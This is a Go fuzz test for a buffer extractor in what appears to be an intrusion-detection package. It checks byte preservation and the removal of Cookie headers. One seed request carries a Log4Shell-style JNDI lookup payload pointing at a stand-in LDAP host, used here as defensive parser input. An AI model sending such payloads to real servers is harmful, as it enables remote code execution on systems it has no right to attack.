package ids

import (
	"strings"
	"testing"

	"repro/internal/fuzzcorpus"
)

func fuzzExtractBuffersSeeds() [][]byte {
	return [][]byte{
		[]byte("GET /?x=${jndi:ldap://e} HTTP/1.1\r\nHost: h\r\nCookie: a=b\r\n\r\n"),
		[]byte("POST / HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello"),
		[]byte("\x16\x03\x01 binary"),
		[]byte("EHLO x\r\nMAIL FROM:<a@b>\r\n"),
	}
}

func FuzzExtractBuffers(f *testing.F) {
	for _, seed := range fuzzExtractBuffersSeeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		b := ExtractBuffers(data)
		if len(b.Raw) != len(data) {
			t.Fatalf("raw buffer lost bytes: %d vs %d", len(b.Raw), len(data))
		}
		for i := range b.Requests {
			// Once a Cookie value is extracted, no header line named Cookie
			// may remain in Headers. Names that merely contain the word
			// ("X-Cookie", "0Cookie") are other headers and stay.
			r := &b.Requests[i]
			if r.Cookie == "" {
				continue
			}
			for _, line := range strings.Split(r.Headers, "\n") {
				name, _, ok := strings.Cut(line, ":")
				if ok && strings.EqualFold(strings.TrimSpace(name), "cookie") {
					t.Fatalf("cookie header left in header buffer: %q", r.Headers)
				}
			}
		}
	})
}

// TestRegenFuzzExtractBuffersCorpus rewrites the committed seed corpus from
// the seeds FuzzExtractBuffers adds. Run with REGEN_FUZZ_CORPUS=1 after
// changing them.
func TestRegenFuzzExtractBuffersCorpus(t *testing.T) {
	if !fuzzcorpus.Regen() {
		t.Skip("set REGEN_FUZZ_CORPUS=1 to rewrite testdata/fuzz")
	}
	fuzzcorpus.Write(t, "FuzzExtractBuffers", fuzzExtractBuffersSeeds())
}
